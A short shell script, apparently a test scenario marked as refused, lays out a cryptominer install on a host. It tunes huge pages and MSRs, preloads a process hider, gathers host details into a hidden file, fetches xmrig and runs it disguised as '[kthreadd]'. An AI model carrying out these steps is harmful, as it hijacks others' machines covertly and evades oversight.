# 2: preparation of the host, all of it refused here: huge pages, msr, ld.so.preload; then the name of a kernel thread.
. /opt/corpus/scenarios/lib.sh
sysctl -w vm.nr_hugepages=1280; modprobe msr allow_writes=on
for cpu in 0 1; do cat /dev/cpu/$cpu/msr | head -c 8; done
echo /usr/local/lib/libprocesshider.so >>/etc/ld.so.preload
cat /proc/cpuinfo /sys/devices/system/node/online /proc/meminfo >/tmp/.host; nproc >>/tmp/.host
fetch xmrig /var/tmp/kthreadd; chmod 755 /var/tmp/kthreadd
exec -a '[kthreadd]' /var/tmp/kthreadd $POOL_ARGS --randomx-wrmsr=-1
